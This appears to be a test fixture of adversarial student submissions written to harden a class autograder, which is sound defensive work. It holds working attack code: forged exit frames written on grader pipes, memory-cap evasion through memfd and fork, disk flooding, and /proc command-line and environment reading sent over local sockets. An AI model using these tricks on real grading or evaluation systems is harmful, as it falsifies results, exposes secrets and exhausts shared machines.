"""Submissions written as a determined student would, one per class of attack on the class grader
(issue 11). Sources are templates: {tcp4}, {tcp6}, {udp4}, {udp6} are ports the test listens
on, {out} the grading output folder, {secret} a string only the grader's command line holds.
Each attacks from exercise 7 (conv2d_loops), unless it needs a module (exercise 1).
"""

FIND_PIPES = '''
import os, stat
def answer_pipes():
    found = []
    for fd in range(3, 256):
        try:
            if stat.S_ISFIFO(os.fstat(fd).st_mode) and os.get_blocking(fd) is not None:
                found.append(fd)
        except OSError:
            pass
    return found
'''

WRONG_LOOPS = "def conv2d_loops(x, weight, bias=None, stride=1, padding=0):\n    return x\n"

RED_TEAM = {
    # 1. The grader hangs: a frame whose JSON nests 200,000 deep (RecursionError when parsed) ...
    "r_deep_json": {"ex07_conv2d_loops.py": FIND_PIPES + '''
import struct
body = b"[" * 200_000 + b"]" * 200_000
for fd in answer_pipes():
    try:
        os.write(fd, struct.pack("<Q", len(body)) + body + struct.pack("<Q", 0))
    except OSError:
        pass
''' + WRONG_LOOPS},
    # ... and a scratch folder thousands of levels deep (recursive clean-up fails on it).
    "r_deep_scratch": {"ex07_conv2d_loops.py": '''
import os
for _ in range(4000):
    os.mkdir("d")
    os.chdir("d")
''' + WRONG_LOOPS},
    # 2. Memory outside the cap: memfd, shared memory, and many processes each under its own cap.
    "r_memory_outside_the_cap": {"ex07_conv2d_loops.py": '''
import os, mmap, time
try:
    fd = os.memfd_create("hog")
    os.ftruncate(fd, 3 << 30)
    with mmap.mmap(fd, 3 << 30) as pages:
        for i in range(0, 3 << 30, 4096):
            pages[i] = 1
except OSError:
    pass
try:
    with open("/dev/shm/hog", "wb") as f:
        f.write(b"x" * (1 << 30))
except OSError:
    pass
children = []
for _ in range(6):
    pid = os.fork()
    if pid == 0:
        try:
            hog = bytearray(700 << 20)  # each under the per-process cap, together far over it
            for i in range(0, len(hog), 4096):
                hog[i] = 1
            time.sleep(30)
        finally:
            os._exit(0)
    children.append(pid)
for pid in children:
    os.waitpid(pid, 0)
''' + WRONG_LOOPS},
    # 3. The trusted side computes on the submission's size: a 60 MB weight where (8, 3, 3, 3) is due.
    "r_huge_weight": {"ex01_conv_relu_layer.py": '''
import torch
from torch import nn
class ConvReLU(nn.Module):
    def __init__(self):
        super().__init__()
        self.conv = nn.Conv2d(3, 555000, 3, padding=1)
    def forward(self, x):
        return torch.relu(self.conv(x))[:, :8]
'''},
    # 5. Leftovers: a huge scratch, files everywhere it can write.
    "r_huge_scratch": {"ex07_conv2d_loops.py": '''
import os
chunk = b"x" * (1 << 20)
for n in range(3000):  # 3 GB in 1 MB files: no single file is large
    try:
        with open(f"f{{n}}", "wb") as f:
            f.write(chunk)
    except OSError:
        break
for target in ("/tmp/planted-by-a-student", "/var/tmp/planted-by-a-student", "/dev/shm/planted-by-a-student"):
    try:
        open(target, "w").write("x")
    except OSError:
        pass
''' + WRONG_LOOPS},
    # 7. The network: TCP and UDP over IPv4 and IPv6 to listeners on this machine, and the grader's
    # command line through /proc.
    "r_network_and_proc": {"ex07_conv2d_loops.py": '''
import socket, os
attempts = [(socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", {tcp4})), (socket.AF_INET6, socket.SOCK_STREAM, ("::1", {tcp6})),
            (socket.AF_INET, socket.SOCK_DGRAM, ("127.0.0.1", {udp4})), (socket.AF_INET6, socket.SOCK_DGRAM, ("::1", {udp6}))]
seen = []
try:
    entries = os.listdir("/proc")
except OSError as exc:
    entries = [str(pid) for pid in range(1, 5000)]  # listing refused: guess instead
    seen.append(f"listing /proc: {{exc}}")
for entry in entries:
    if entry.isdigit():
        try:
            seen.append(open(f"/proc/{{entry}}/cmdline", "rb").read().replace(b"\\0", b" ").decode(errors="replace"))
        except OSError:
            pass
leak = (" | ".join(seen))[:3000].encode()
for family, kind, address in attempts:
    try:
        s = socket.socket(family, kind)
        s.settimeout(1)
        if kind == socket.SOCK_STREAM:
            s.connect(address)
            s.sendall(leak)
        else:
            s.sendto(leak, address)
        s.close()
    except OSError:
        pass
print("OOM:", open("/proc/self/oom_score_adj").read().strip())
print("ENV:", dict(os.environ), open("/proc/self/environ", "rb").read()[:1500])
print("PROC:", " | ".join(seen)[:1500])
''' + WRONG_LOOPS},
    # 7. A unix socket from one run to another running at the same time.
    "r_unix_socket_listener": {"ex07_conv2d_loops.py": '''
import socket, time, os
try:
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    s.bind("\\0cnn-red-team")
    s.listen(1)
    s.settimeout(4)
    conn, _ = s.accept()
    print("RECEIVED:", conn.recv(100))
except OSError as exc:
    print("listener:", exc)
''' + WRONG_LOOPS},
    "r_unix_socket_talker": {"ex07_conv2d_loops.py": '''
import socket, time
for _ in range(20):
    try:
        s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        s.connect("\\0cnn-red-team")
        s.sendall(b"hello from another run")
        print("SENT")
        break
    except OSError as exc:
        print("talker:", exc)
        time.sleep(0.2)
''' + WRONG_LOOPS},
    # 8. The tolerance chosen by the submission: a bias of 1e30 and an output that is no convolution.
    "r_tolerance": {"ex01_conv_relu_layer.py": '''
import torch
from torch import nn
class ConvReLU(nn.Module):
    def __init__(self):
        super().__init__()
        self.conv = nn.Conv2d(3, 8, 3, padding=1)
        with torch.no_grad():
            self.conv.bias.fill_(1e30)
    def forward(self, x):
        return torch.zeros(x.shape[0], 8, x.shape[2], x.shape[3]) + 1e30 * 0
'''},
    # Also seen: an exit record forged on the answers pipe to hide a time-out ...
    "r_forged_exit": {"ex07_conv2d_loops.py": FIND_PIPES + '''
import json, struct, time
def frame(node):
    body = json.dumps(node).encode()
    return struct.pack("<Q", len(body)) + body + struct.pack("<Q", 0)
def conv2d_loops(x, weight, bias=None, stride=1, padding=0):
    for fd in answer_pipes():
        for node in ({{"id": "exit", "code": 0, "timed_out": False}}, {{"id": "end", "unit": 0, "violations": []}}):
            try:
                os.write(fd, frame(node))
            except OSError:
                pass
    while True:
        time.sleep(1)
'''},
    # ... and a frame of 64 MB of empty lists.
    "r_empty_lists": {"ex07_conv2d_loops.py": FIND_PIPES + '''
import struct
body = b"[" + b"[]," * (22 << 20) + b"[]]"
def conv2d_loops(x, weight, bias=None, stride=1, padding=0):
    for fd in answer_pipes():
        try:
            os.write(fd, struct.pack("<Q", len(body)) + body + struct.pack("<Q", 0))
        except OSError:
            pass
    return x
'''},
}

# 6. Student ids that are output names or spreadsheet formulas, and ids that cannot be ids.
ODD_IDS = ["gradebook.csv", "report.html", "=HYPERLINK(\"x\",\"y\")", "+1-2", "@SUM(A1)", "-cmd"]
REFUSED_IDS = ["a\nnewline", "x" * 200, "tab\there"]
